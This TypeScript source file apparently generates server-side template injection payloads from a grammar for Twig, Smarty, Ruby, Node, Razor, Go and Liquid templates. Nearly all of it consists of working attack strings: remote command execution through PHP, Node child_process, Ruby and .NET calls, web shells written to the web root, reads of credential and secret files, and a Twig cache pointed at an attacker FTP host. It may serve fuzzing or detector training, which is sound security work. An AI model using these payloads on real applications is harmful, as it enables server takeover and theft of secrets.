/** Twig, Smarty, Blade; ERB, Slim; Pug, Nunjucks, Handlebars, EJS; Razor; Go templates; Liquid. */
import { characters, integer, LOWER_CASE, maybe, oneOf, type Rule, text, weighted } from '../../grammar.ts';
import { attackerHost, identifier, sensitiveFile, shellCommand, token } from '../lexicon.ts';
import { braces, dollar, hash, percentTag, single } from './arithmetic.ts';

const phpFunction: Rule = oneOf(
  'system',
  'passthru',
  'exec',
  'shell_exec',
  'popen',
  'phpinfo',
  'assert',
  'var_dump',
  'file_get_contents',
  'call_user_func',
);

const twig: Rule = oneOf(
  braces(text`_self.env.registerUndefinedFilterCallback("${phpFunction}")}}{{_self.env.getFilter("${shellCommand}")`),
  braces(text`_self.env.setCache("ftp://${attackerHost}:${integer(21, 9999)}")}}{{_self.env.loadTemplate("${token}")`),
  braces(
    text`['${shellCommand}'${maybe(',""')}]|${oneOf('filter', 'map', 'sort', 'reduce')}('${phpFunction}')${maybe("|join(',')")}`,
  ),
  braces(text`[0]|reduce('${phpFunction}','${shellCommand}')`),
  braces(text`{'<?php ${phpFunction}("${shellCommand}");':'/var/www/html/${token}.php'}|map('file_put_contents')`),
  braces(text`'${sensitiveFile}'|file_excerpt(1,${integer(10, 99)})`),
  braces(text`app.request.${oneOf('server', 'query', 'files')}.all|join(',')`),
  braces(text`app.request.query.filter(0,'${shellCommand}',1024,{'options':'${phpFunction}'})`),
  braces(oneOf('dump(app)', '_self.env', '_self.environment', 'app.request.server.get("APP_SECRET")')),
  text`{% set ${identifier}=['${shellCommand}']|map('${phpFunction}')|join %}{{${identifier}}}`,
  text`{% block U %}${shellCommand}000${phpFunction}{% endblock %}{% set x=block(_charset|first)|split(000) %}{{[x|first]|map(x|last)|join}}`,
  braces(text`source('${sensitiveFile}')`),
);

const smarty: Rule = oneOf(
  single(text`${oneOf('system', 'passthru', 'exec', 'shell_exec')}('${shellCommand}')`),
  single('$smarty.version'),
  text`{$smarty.template_object->smarty->${oneOf('enableSecurity()', 'disableSecurity()')}->display('string:{${phpFunction}("${shellCommand}")}')}`,
  text`{php}${maybe('echo ')}${phpFunction}('${shellCommand}');{/php}`,
  text`{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php ${phpFunction}($_GET['${identifier}']); ?>",self::clearConfig())}`,
  text`{self::getStreamVariable("file://${sensitiveFile}")}`,
  text`{if ${phpFunction}('${shellCommand}')}{/if}`,
  text`{fetch file="${sensitiveFile}"}`,
  text`{include file='eval:{${phpFunction}("${shellCommand}")}'}`,
  text`{function name='x(){};${phpFunction}("${shellCommand}");function '}{/function}`,
  text`{=${phpFunction}('${shellCommand}')}`,
  text`{{${phpFunction}('${shellCommand}')}}@php ${phpFunction}('${shellCommand}'); @endphp`,
);

const ruby: Rule = oneOf(
  percentTag(text`${oneOf('system', 'exec', 'IO.popen')}('${shellCommand}')${maybe('.read', 0.2)}`),
  percentTag(text`\`${shellCommand}\``),
  percentTag(text`File.open('${sensitiveFile}').read`),
  percentTag(
    oneOf('Dir.entries("/")', 'ENV.to_a', 'self.instance_variables', 'Rails.application.secrets', 'self.methods'),
  ),
  percentTag(text`require 'open3'; @a,@b,@c,@d=Open3.popen3('${shellCommand}'); @b.readline()`),
  hash(text`%x|${shellCommand}|`),
  hash(text`%x(${shellCommand})`),
  hash(text`system('${shellCommand}')`),
  hash(text`\`${shellCommand}\``),
  hash(text`File.read("${sensitiveFile}")`),
  hash(text`Kernel.${oneOf('system', 'exec', 'spawn')}("${shellCommand}")`),
  text`<% ${identifier} = \`${shellCommand}\` %><%= ${identifier} %>`,
);

const processCall: Rule = text`require('child_process').${oneOf('execSync', 'exec', 'spawnSync')}('${shellCommand}')${maybe('.toString()')}`;
const constructed: Rule = oneOf(
  text`${oneOf('range', 'cycler', 'joiner', "''.toString", '[].filter', 'toString', "'a'.sub", identifier)}.constructor("return ${oneOf('global.process.mainModule.', 'process.mainModule.', 'this.process.mainModule.')}${processCall}")()`,
  text`constructor.constructor('return ${oneOf('process', 'process.env', 'this', 'global')}')()`,
);
const javascript: Rule = oneOf(
  braces(constructed),
  braces(text`${identifier}=${constructed}`),
  hash(
    text`function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('${shellCommand}')}()`,
  ),
  hash(text`global.process.mainModule.${processCall}`),
  text`- var ${identifier} = root.process.mainModule.require\n- ${identifier} = ${identifier}('child_process').execSync('${shellCommand}')\n= ${identifier}`,
  text`{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return ${processCall};"}}{{/with}}{{/with}}{{/with}}{{/with}}`,
  text`{{#${oneOf('with', 'each')} ${oneOf('__proto__', 'constructor', '"constructor"', '__defineGetter__')}}}{{lookup this "${oneOf('constructor', '__proto__', 'toString')}"}}{{/with}}`,
  percentTag(text`${maybe('global.')}process.mainModule.${processCall}`),
  percentTag(text`process.env.${oneOf('SECRET', 'PATH', 'DB_PASSWORD')}`),
  dollar(text`${oneOf('global.', 'this.', '')}process.mainModule.${processCall}`),
  text`{{:"pwnd".toString.constructor.call({},"return global.process.mainModule.constructor._load('child_process').execSync('${shellCommand}').toString()")()}}`,
  text`settings[view options][${oneOf('outputFunctionName', 'escapeFunction', 'client')}]=x;process.mainModule.${processCall};${identifier}`,
);

const razor: Rule = oneOf(
  text`@(${oneOf('System.Diagnostics.Process.Start', 'System.IO.File.ReadAllText')}("${oneOf(shellCommand, sensitiveFile)}"))`,
  text`@{ var ${identifier} = System.Diagnostics.Process.Start("cmd.exe","/c ${shellCommand}"); }`,
  text`@System.${oneOf('Environment.GetEnvironmentVariables()', 'IO.Directory.GetFiles("/")', 'DateTime.Now.GetType().Assembly', 'AppDomain.CurrentDomain')}`,
  text`{{ ${oneOf('System.Diagnostics.Process.Start', 'xs.gettype')}("${shellCommand}") }}`,
  text`<%= CreateObject("Wscript.Shell").exec("${shellCommand}").StdOut.ReadAll() %>`,
);

const goTemplate: Rule = oneOf(
  braces(text`.${oneOf('System', 'Exec', 'Command', 'Run')} "${shellCommand}"`),
  braces(text`printf "%${oneOf('s', '#v', '+v')}" ${oneOf('.', '$', '.Secret', '.Password')}`),
  braces(text`html "${token}" | printf "%#v" .`),
  braces(text`call .${oneOf('Exec', 'GetFile', 'Render')} "${oneOf(shellCommand, sensitiveFile)}"`),
  text`{{$${identifier} := .${oneOf('Echo', 'Context')}.Filesystem.Open "${sensitiveFile}"}}{{$${identifier}.Seek 1 0}}`,
);

const liquid: Rule = oneOf(
  text`{% include '${sensitiveFile}' %}`,
  text`{% assign ${identifier} = "${characters(LOWER_CASE, 2, 4)}" | split: "" %}{{ ${identifier} | map: "constructor" | inspect }}`,
  text`{{ '${sensitiveFile}' | ${oneOf('read_file', 'asset_content', 'inline_asset_content')} }}`,
);

/** Templates of PHP programs. */
export const phpTemplate: Rule = weighted([3, twig], [3, smarty]);

/** Templates of Ruby, Node, .NET and Go programs. */
export const otherTemplate: Rule = weighted([4, ruby], [5, javascript], [2, razor], [1.5, goTemplate], [1, liquid]);
